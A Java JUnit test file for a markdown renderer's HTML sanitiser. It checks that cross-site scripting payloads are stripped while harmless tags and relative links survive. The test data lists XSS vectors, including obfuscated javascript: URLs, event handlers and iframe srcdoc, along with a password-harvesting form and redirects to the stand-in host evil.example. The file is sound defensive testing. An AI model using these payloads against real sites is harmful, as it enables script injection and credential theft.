package dev.bucketpress.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "[x](javascript:alert(1))",
                "[x](java&#115;cript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "<a href=\"java&#9;script:alert(1)\">x</a>",
                "[x](vbscript:alert(1))",
                "[x](data:text/html,<script>alert(1)</script>)",
                "<a href=' javascript:alert(1)'>x</a>",
                "<svg onload=alert(1)></svg>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<style>body{display:none}</style>",
                "<p style='position:fixed'>x</p>",
                "<form action='https://evil.example'><input name=password><button>x</button></form>",
                "<base href='https://evil.example'>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<object data='x'></object>",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
            })
    void whatCouldDoReadersHarmIsDropped(String body) {
        String html = render(HtmlPolicy.SAFE, body);

        assertThat(html.toLowerCase(Locale.ROOT))
                .doesNotContain("script", "onerror", "onload", "style", "srcdoc", "evil", "data:", "<input", "<object");
    }

    @Test
    void whatBloggersUseIsKept() {
        String html = render(
                HtmlPolicy.SAFE,
                "<details open><summary>More</summary><kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup></details>\n\n"
                        + "<center><font color=\"red\">red</font></center>\n\n"
                        + "<figure><img src=\"a.png\" alt=\"a\"><figcaption>A</figcaption></figure>\n\n"
                        + "<ruby>漢<rt>かん</rt></ruby>");

        assertThat(html)
                .contains("<details open><summary>More</summary><kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup></details>")
                .contains("<center><font color=\"red\">red</font></center>")
                .contains("<figure><img src=\"a.png\" alt=\"a\"><figcaption>A</figcaption></figure>")
                .contains("<ruby>漢<rt>かん</rt></ruby>");
    }

    @Test
    void relativeLinksStayRelative() {
        assertThat(render(HtmlPolicy.SAFE, "[a](../b.md) [c](/d) [e](#f) [m](mailto:a@example.org)"))
                .contains("href=\"../b.md\"", "href=\"/d\"", "href=\"#f\"", "href=\"mailto:a@example.org\"");
    }

    @Test
    void authorsCannotForgeIds() {
        assertThat(render(HtmlPolicy.SAFE, "<span id=\"more\">x</span> <span id=\"top\">y</span>"))
                .doesNotContain("id=");
    }

    @ParameterizedTest
    @ValueSource(strings = {"script", "style", "textarea", "title", "xmp", "plaintext", "SCRIPT", "iframe"})
    void aTagMentionedInProseDoesNotSwallowTheRest(String tag) {
        assertThat(render(HtmlPolicy.SAFE, "use <" + tag + "> inline\n\nsecond *paragraph*"))
                .contains("use &lt;" + tag + "&gt; inline", "second <em>paragraph</em>");
    }

    @Test
    void trustedHtmlIsKeptAsItIs() {
        assertThat(render(HtmlPolicy.TRUSTED, "<p style=\"color:red\" onclick=\"f()\">x</p>\n<script>f()</script>"))
                .contains("<p style=\"color:red\" onclick=\"f()\">x</p>", "<script>f()</script>");
    }

    private static String render(HtmlPolicy policy, String body) {
        return ((Rendered) new Markdown(policy).render(body, Optional.empty(), Links.NONE)).html();
    }
}
